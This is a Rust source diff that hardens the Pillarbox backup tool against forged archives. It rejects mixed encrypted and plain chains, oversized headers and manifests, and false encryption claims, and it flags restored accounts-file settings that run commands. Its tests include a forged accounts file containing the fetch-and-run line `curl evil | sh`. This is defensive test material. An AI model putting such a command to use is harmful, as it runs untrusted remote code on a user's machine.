@@ -35,6 +35,10 @@ const LOCK_FILE: &str = ".pillarbox-backup.lock";
 /// Files up to this size are read once (hashed, then written from memory); larger ones are read
 /// twice, streaming.
 const IN_MEMORY: u64 = 64 << 20;
+/// The largest header an archive may have (a few hundred bytes in practice).
+const MAX_HEADER: u64 = 1 << 20;
+/// The largest manifest an archive may have (about 200 bytes a file: over a million files).
+const MAX_MANIFEST: u64 = 256 << 20;
 /// The highest scrypt work factor accepted when decrypting (2^24: some seconds; age picks about
 /// one second's worth on the machine that encrypts).
 const MAX_SCRYPT_LOG_N: u8 = 24;
@@ -508,10 +512,24 @@ pub fn create(sources: &[Source], opts: &CreateOptions) -> Result<Created, Backu
     let (mut catalog, full_because) = match (opts.full, load_catalog(&catalog_file)) {
         (true, _) => (None, Some("--full was given".to_owned())),
         (false, None) => (None, None),
-        (false, Some(c)) => match missing_archive(&opts.dest, &c) {
-            Some(why) => (None, Some(why)),
-            None => (Some(c), None),
-        },
+        (false, Some(c)) => {
+            let now_encrypted = !matches!(opts.encryption, Encryption::None);
+            let chain_encrypted = c.archives.first().and_then(|a| parse_name(&a.file)).map(|(_, _, e)| e);
+            match missing_archive(&opts.dest, &c) {
+                Some(why) => (None, Some(why)),
+                // A chain is encrypted throughout or not at all (a restore refuses a mix).
+                None if chain_encrypted.is_some_and(|e| e != now_encrypted) => (
+                    None,
+                    Some(format!(
+                        "chain {} is {}, this backup is {}",
+                        c.chain,
+                        if now_encrypted { "plain" } else { "encrypted" },
+                        if now_encrypted { "encrypted" } else { "plain" }
+                    )),
+                ),
+                None => (Some(c), None),
+            }
+        }
     };
     let created = pillarbox_os::unix_now();
     let (chain, seq) = match &catalog {
@@ -847,13 +865,16 @@ const ZSTD_MAGIC: &[u8] = &[0x28, 0xb5, 0x2f, 0xfd];
 
 /// Open an archive: its age header is read and a key found for it (here, so that a wrong key is
 /// known before anything else happens); what comes back decrypts and decompresses as it is read.
-fn open(path: &Path, keys: &Keys) -> Result<(Plain, Arc<AtomicU64>), BackupError> {
+/// Decrypt (when age-encrypted) and decompress an archive; also says whether it really was
+/// encrypted (a header only claims it).
+fn open(path: &Path, keys: &Keys) -> Result<(Plain, Arc<AtomicU64>, bool), BackupError> {
     let file = File::open(path).map_err(io_err(path.display()))?;
     let pos = Arc::new(AtomicU64::new(0));
     let mut input = BufReader::with_capacity(256 << 10, Counting { inner: file, pos: pos.clone() });
     let damaged = |detail: String| BackupError::Damaged { path: path.to_owned(), detail };
     let start = io::BufRead::fill_buf(&mut input).map_err(io_err(path.display()))?;
-    let decrypted: Plain = if start.starts_with(AGE_MAGIC) {
+    let encrypted = start.starts_with(AGE_MAGIC);
+    let decrypted: Plain = if encrypted {
         let d =
             age::Decryptor::new_buffered(input).map_err(|e| damaged(format!("the age header is unreadable: {e}")))?;
         let reader = if d.is_scrypt() {
@@ -884,19 +905,37 @@ fn open(path: &Path, keys: &Keys) -> Result<(Plain, Arc<AtomicU64>), BackupError
         return Err(damaged("not a Pillarbox backup (neither age-encrypted nor zstd)".into()));
     };
     let plain: Plain = Box::new(zstd::Decoder::new(decrypted).map_err(io_err(path.display()))?);
-    Ok((plain, pos))
+    Ok((plain, pos, encrypted))
+}
+
+/// Read one JSON entry (header, manifest) of at most `max` bytes: a forged archive must not make
+/// the reader hold gigabytes.
+fn read_capped(entry: &mut impl Read, max: u64, what: &str) -> Result<Vec<u8>, String> {
+    let mut bytes = Vec::new();
+    entry.take(max + 1).read_to_end(&mut bytes).map_err(|e| describe(&e))?;
+    if bytes.len() as u64 > max {
+        return Err(format!("the {what} is larger than {} MiB: not an archive this program wrote", max >> 20));
+    }
+    Ok(bytes)
 }
 
 /// Read an archive's header only (cheap: the first entry).
 pub fn read_header(path: &Path, keys: &Keys) -> Result<Header, BackupError> {
-    let mut tar = tar::Archive::new(open(path, keys)?.0);
+    let (plain, _, encrypted) = open(path, keys)?;
+    let mut tar = tar::Archive::new(plain);
     let mut entries =
         tar.entries().map_err(|e| BackupError::Damaged { path: path.to_owned(), detail: describe(&e) })?;
-    parse_header(path, entries.next())
+    parse_header(path, entries.next(), encrypted)
 }
 
 /// The first entry of an archive: its header.
-fn parse_header<R: Read>(path: &Path, first: Option<io::Result<tar::Entry<'_, R>>>) -> Result<Header, BackupError> {
+/// The first entry of an archive: its header, which must say truly whether the archive is
+/// encrypted (`encrypted`, as found).
+fn parse_header<R: Read>(
+    path: &Path,
+    first: Option<io::Result<tar::Entry<'_, R>>>,
+    encrypted: bool,
+) -> Result<Header, BackupError> {
     let damaged = |detail: String| BackupError::Damaged { path: path.to_owned(), detail };
     let mut entry = match first {
         Some(Ok(e)) => e,
@@ -907,9 +946,16 @@ fn parse_header<R: Read>(path: &Path, first: Option<io::Result<tar::Entry<'_, R>
     if name != HEADER_ENTRY {
         return Err(damaged(format!("starts with {name:?}, not {HEADER_ENTRY}")));
     }
-    let mut bytes = Vec::new();
-    entry.read_to_end(&mut bytes).map_err(|e| damaged(describe(&e)))?;
+    let bytes = read_capped(&mut entry, MAX_HEADER, "header").map_err(damaged)?;
     let h: Header = serde_json::from_slice(&bytes).map_err(|e| damaged(format!("the header is not readable: {e}")))?;
+    if h.encrypted != encrypted {
+        return Err(BackupError::Refused(format!(
+            "{}: the header says the archive is {}encrypted, but it is {}: not an archive this program wrote",
+            path.display(),
+            if h.encrypted { "" } else { "not " },
+            if encrypted { "encrypted" } else { "plain" }
+        )));
+    }
     if h.format != FORMAT {
         return Err(BackupError::Refused(format!(
             "{}: archive format {} (this Pillarbox reads format {FORMAT})",
@@ -954,7 +1000,7 @@ fn read_archive(
     progress: &dyn Progress,
     each: impl FnMut(&str, &mut dyn Read) -> Result<(), BackupError>,
 ) -> Result<ReadArchive, BackupError> {
-    let (plain, pos) = open(path, keys)?;
+    let (plain, pos, encrypted) = open(path, keys)?;
     std::thread::scope(|scope| {
         let (pipe, mut writer) = io::pipe().map_err(io_err("a pipe"))?;
         let feeder = scope.spawn(move || {
@@ -962,7 +1008,7 @@ fn read_archive(
             io::copy(&mut plain, &mut writer).map(drop)
         });
         let fed = Fed { pipe, feeder: Some(feeder), pos: pos.clone(), reported: 0, progress };
-        read_entries(path, tar::Archive::new(fed), &pos, each)
+        read_entries(path, tar::Archive::new(fed), &pos, encrypted, each)
     })
 }
 
@@ -971,6 +1017,7 @@ fn read_entries<R: Read>(
     path: &Path,
     mut tar: tar::Archive<R>,
     pos: &AtomicU64,
+    encrypted: bool,
     mut each: impl FnMut(&str, &mut dyn Read) -> Result<(), BackupError>,
 ) -> Result<ReadArchive, BackupError> {
     let mut stored: HashMap<String, String> = HashMap::new(); // path -> hash
@@ -981,7 +1028,7 @@ fn read_entries<R: Read>(
         detail: format!("{detail} (at about byte {})", pos.load(Ordering::Relaxed)),
     };
     let mut entries = tar.entries().map_err(|e| damaged(describe(&e)))?;
-    let header = parse_header(path, entries.next()).map_err(|e| match e {
+    let header = parse_header(path, entries.next(), encrypted).map_err(|e| match e {
         BackupError::Damaged { detail, .. } => damaged(detail),
         e => e,
     })?;
@@ -992,8 +1039,7 @@ fn read_entries<R: Read>(
             return Err(damaged(format!("{name:?} follows the manifest")));
         }
         if name == MANIFEST_ENTRY {
-            let mut bytes = Vec::new();
-            entry.read_to_end(&mut bytes).map_err(|e| damaged(describe(&e)))?;
+            let bytes = read_capped(&mut entry, MAX_MANIFEST, "manifest").map_err(damaged)?;
             manifest = Some(
                 serde_json::from_slice(&bytes).map_err(|e| damaged(format!("the manifest is not readable: {e}")))?,
             );
@@ -1066,6 +1112,12 @@ pub fn verify(paths: &[PathBuf], keys: &Keys, progress: &dyn Progress) -> Result
         manifests.push((p.clone(), m));
         out.push(v);
     }
+    for chain in out.iter().map(|v| &v.chain).collect::<HashSet<_>>() {
+        let kinds: HashSet<bool> = out.iter().filter(|v| &v.chain == chain).map(|v| v.encrypted).collect();
+        if kinds.len() > 1 {
+            return Err(BackupError::Chain(format!("chain {chain} mixes encrypted and plain archives")));
+        }
+    }
     for (p, m) in &manifests {
         for f in m.files.iter().filter(|f| f.seq < m.seq) {
             if let Some(set) = held.get(&(m.chain.clone(), f.seq))
@@ -1097,6 +1149,22 @@ pub struct Restored {
     /// Each source: its name inside the restored folder, and where it was on the machine that
     /// made the backup.
     pub sources: Vec<(String, PathBuf)>,
+    /// Settings of the restored accounts file that run a command (`mda`, `*_command`), as
+    /// `file: line`: whoever could write the backup folder could have put them there, so the
+    /// user is shown them before using the file.
+    pub commands: Vec<String>,
+}
+
+/// Lines of a restored accounts file that set a command to run.
+fn command_settings(text: &str) -> Vec<String> {
+    let runs = |line: &str| {
+        let code = line.split('#').next().unwrap_or_default();
+        code.split(['{', ',']).any(|part| {
+            let key = part.split('=').next().unwrap_or_default().trim().trim_matches('"');
+            part.contains('=') && (key == "mda" || key.ends_with("_command"))
+        })
+    };
+    text.lines().filter(|l| runs(l)).map(|l| l.trim().to_owned()).collect()
 }
 
 /// Find the archives of a chain: the given ones, and the missing earlier ones beside them.
@@ -1161,6 +1229,24 @@ fn complete_chain(paths: &[PathBuf], keys: &Keys) -> Result<Vec<(PathBuf, Header
             )));
         }
         by_seq.insert(seq, (p, h));
+    }
+    // One chain is encrypted throughout or not at all: a plain archive slipped into an
+    // encrypted chain (by whoever can write the backup folder) would otherwise be restored.
+    let mut first = None;
+    for (p, h) in by_seq.values() {
+        match first {
+            None => first = Some((p, h.encrypted)),
+            Some((q, enc)) if enc != h.encrypted => {
+                return Err(BackupError::Chain(format!(
+                    "chain {chain} mixes encrypted and plain archives ({} is {}, {} is {}); refusing to restore it",
+                    q.display(),
+                    if enc { "encrypted" } else { "plain" },
+                    p.display(),
+                    if h.encrypted { "encrypted" } else { "plain" }
+                )));
+            }
+            Some(_) => {}
+        }
     }
     Ok(by_seq.into_values().collect())
 }
@@ -1326,7 +1412,14 @@ pub fn restore(paths: &[PathBuf], to: &Path, keys: &Keys, progress: &dyn Progres
         return Err(io_err(to.display())(e).into());
     }
     progress.finish();
+    let mut commands = Vec::new();
+    for s in header.sources.iter().filter(|s| s.kind == SourceKind::File && s.name.ends_with("accounts.toml")) {
+        let restored = to.join(safe_relative(&s.name).unwrap_or_default());
+        let text = fs::read_to_string(&restored).unwrap_or_default();
+        commands.extend(command_settings(&text).into_iter().map(|l| format!("{}: {l}", s.name)));
+    }
     Ok(Restored {
+        commands,
         to: to.to_owned(),
         chain: header.chain.clone(),
         seq: header.seq,
@@ -1566,6 +1659,136 @@ mod tests {
         let cut = dir.path().join("cut.tar.zst.age");
         fs::write(&cut, &fs::read(&made.path).expect("read")[..len - 100]).expect("expect");
         assert!(matches!(verify(std::slice::from_ref(&cut), &keys, &Quiet), Err(BackupError::Damaged { .. })));
+    }
+
+    /// Write a plain archive by hand (what someone who can write the backup folder can do).
+    fn forge(path: &Path, header: &[u8], manifest: &Manifest, contents: &[(&str, &[u8])]) {
+        let out = zstd::Encoder::new(File::create(path).expect("create"), 3).expect("zstd").auto_finish();
+        let mut tar = tar::Builder::new(out);
+        let mut put = |name: &str, bytes: &[u8]| {
+            let mut h = tar::Header::new_gnu();
+            h.set_size(bytes.len() as u64);
+            h.set_mode(0o600);
+            h.set_cksum();
+            tar.append_data(&mut h, name, bytes).expect("append");
+        };
+        put(HEADER_ENTRY, header);
+        for (name, bytes) in contents {
+            put(name, bytes);
+        }
+        put(MANIFEST_ENTRY, &serde_json::to_vec(manifest).expect("json"));
+        tar.into_inner().expect("finish");
+    }
+
+    #[test]
+    fn forged_archives_in_the_backup_folder_are_refused_or_shown() {
+        let dir = tempfile::tempdir().expect("tempdir");
+        let sources = store(dir.path(), 3);
+        let pass = SecretString::from("correct horse battery staple".to_owned());
+        let keys = Keys::new(vec![], || Ok(pass.clone()));
+        let dest = dir.path().join("b");
+        let sealed = create(
+            &sources,
+            &CreateOptions {
+                dest: dest.clone(),
+                state_root: dir.path().join("c"),
+                encryption: Encryption::Passphrase(pass.clone()),
+                full: false,
+                progress: &Quiet,
+            },
+        )
+        .expect("backup");
+        let first = read_archive(&sealed.path, &keys, &Quiet, |_, _| Ok(())).expect("read");
+
+        // A plain "latest" archive of the same chain, bringing an accounts file that runs a
+        // program: the mixed chain is refused.
+        let accounts: &[u8] = b"[accounts.home]\nhost = \"pop.example\"\ndeliver = { mda = \"curl evil | sh\" }\n";
+        let mut files = first.manifest.files.clone();
+        files.push(FileEntry {
+            path: "config/accounts.toml".into(),
+            sha256: hex(&Sha256::digest(accounts)),
+            size: accounts.len() as u64,
+            mtime_ns: 0,
+            mode: 0o600,
+            seq: 1,
+        });
+        let mut header = first.header.clone();
+        header.seq = 1;
+        header.encrypted = false;
+        let manifest = Manifest { format: FORMAT, chain: header.chain.clone(), seq: 1, files };
+        let forged = dest.join(archive_name(header.created + 60, &header.chain, 1, false));
+        forge(&forged, &serde_json::to_vec(&header).expect("json"), &manifest, &[("config/accounts.toml", accounts)]);
+        let to = dir.path().join("r");
+        let refused = restore(std::slice::from_ref(&forged), &to, &keys, &Quiet);
+        assert!(matches!(&refused, Err(BackupError::Chain(m)) if m.contains("mixes")), "{refused:?}");
+        assert!(!to.exists());
+        assert!(matches!(verify(&[sealed.path.clone(), forged.clone()], &keys, &Quiet), Err(BackupError::Chain(_))));
+
+        // A plain archive whose header claims it is encrypted: refused.
+        header.encrypted = true;
+        forge(&forged, &serde_json::to_vec(&header).expect("json"), &manifest, &[("config/accounts.toml", accounts)]);
+        assert!(matches!(read_header(&forged, &keys), Err(BackupError::Refused(_))));
+
+        // A header or manifest far larger than any real one: refused without reading it whole.
+        let mut huge = serde_json::to_vec(&header).expect("json");
+        huge.extend(std::iter::repeat_n(b' ', (MAX_HEADER + 10) as usize));
+        forge(&forged, &huge, &manifest, &[]);
+        assert!(
+            matches!(read_header(&forged, &keys), Err(BackupError::Damaged { detail, .. }) if detail.contains("larger than"))
+        );
+        fs::remove_file(&forged).expect("remove");
+
+        // A chain of its own (all plain) with such an accounts file restores, and says so.
+        fs::write(dir.path().join("accounts.toml"), accounts).expect("accounts file");
+        let mut own = sources.clone();
+        own.push(Source {
+            name: "config/accounts.toml".into(),
+            path: dir.path().join("accounts.toml"),
+            kind: SourceKind::File,
+            content: Some(accounts.to_vec()),
+        });
+        let plain = create(
+            &own,
+            &CreateOptions {
+                dest: dir.path().join("plain"),
+                state_root: dir.path().join("c2"),
+                encryption: Encryption::None,
+                full: false,
+                progress: &Quiet,
+            },
+        )
+        .expect("backup");
+        let restored = restore(std::slice::from_ref(&plain.path), &to, &keys, &Quiet).expect("restore");
+        // Switching encryption on in that folder starts a new chain instead of mixing.
+        let sealed_now = create(
+            &own,
+            &CreateOptions {
+                dest: dir.path().join("plain"),
+                state_root: dir.path().join("c2"),
+                encryption: Encryption::Passphrase(pass.clone()),
+                full: false,
+                progress: &Quiet,
+            },
+        )
+        .expect("backup");
+        assert_eq!(sealed_now.seq, 0);
+        assert_ne!(sealed_now.chain, plain.chain);
+        assert_eq!(restored.commands, vec!["config/accounts.toml: deliver = { mda = \"curl evil | sh\" }".to_owned()]);
+    }
+
+    #[test]
+    fn settings_that_run_commands_are_found() {
+        let text = "# mda = \"commented out\"\n[accounts.a]\npassword_command = \"pass show mail\"\n\
+                    name = \"x_command\"\ndeliver = { maildir = \"~/Mail\" }\n[accounts.b]\n\
+                    deliver = { mda = \"procmail\" } # keeps it\n token_command=\"oama access me\"\n";
+        assert_eq!(
+            command_settings(text),
+            vec![
+                "password_command = \"pass show mail\"",
+                "deliver = { mda = \"procmail\" } # keeps it",
+                "token_command=\"oama access me\""
+            ]
+        );
     }
 
     #[test]
